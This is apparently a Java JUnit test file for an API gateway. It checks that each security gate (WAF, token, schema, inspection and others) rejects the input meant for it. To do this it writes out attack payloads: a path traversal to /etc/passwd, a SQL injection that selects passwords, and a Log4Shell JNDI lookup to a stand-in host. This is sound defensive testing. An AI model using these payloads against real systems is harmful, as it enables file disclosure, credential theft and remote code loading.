package dev.rampart.local.scenario;

import static dev.rampart.local.scenario.Caller.ALL;
import static dev.rampart.local.scenario.Caller.NOTHING;
import static dev.rampart.local.scenario.Caller.behindEscapes;
import static dev.rampart.local.scenario.Caller.good;
import static dev.rampart.local.scenario.Caller.one;
import static org.assertj.core.api.Assertions.assertThat;

import dev.rampart.local.command.Gates;
import dev.rampart.local.gateway.gate.GateDescription;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** The list of gates that a run prints is what the run does. */
final class GateScenarioTest {
  private static final Running RUN = Running.shared();
  private static final String UNKNOWN = "018f4d7e-6c1a-8f3b-9c2d-5a7e1b0c4d6f";

  private final String key = "x-api-key: " + RUN.instance.apiKey();
  private final String token = "Authorization: Bearer " + RUN.ann.token();

  @Test
  void each_gate_that_enforces_something_refuses_what_is_wrong_for_it_alone() {
    Map<String, Reply> refusals = new LinkedHashMap<>();
    refusals.put("edge", RUN.ann.get("/v1/nothing"));
    refusals.put("waf", RUN.ann.get(ALL + "?cursor=../../../etc/passwd"));
    refusals.put("token", RUN.http.send("GET", ALL, List.of(key), NOTHING));
    refusals.put("plan", RUN.http.send("GET", ALL, List.of(token), NOTHING));
    refusals.put("schema", RUN.ann.submit("{}"));
    refusals.put("input", RUN.ann.submit(good().put("contactEmail", "nobody")));
    refusals.put(
        "inspection",
        RUN.ann.submit(
            behindEscapes(good().put("description", "x' UNION SELECT password FROM users --"))));
    refusals.put("domain", RUN.ann.get(one(UNKNOWN)));

    assertThat(refusals.keySet()).containsExactlyElementsOf(names(true));
    refusals.forEach(
        (gate, reply) -> assertThat(reply.json().path("gate").asText()).isEqualTo(gate));
  }

  @Test
  void every_gate_enforces_something() {
    Reply probe = RUN.ann.get(ALL + "?limit=1", "X-Probe: ${jndi:ldap://192.0.2.1/a}");

    assertThat(names(false)).isEmpty();
    assertThat(probe.status()).isEqualTo(403);
    assertThat(probe.json().path("gate").asText()).isEqualTo("waf");
  }

  private static List<String> names(boolean enforcing) {
    return Gates.all().stream()
        .filter(gate -> gate.enforces().isEmpty() != enforcing)
        .map(GateDescription::name)
        .toList();
  }
}
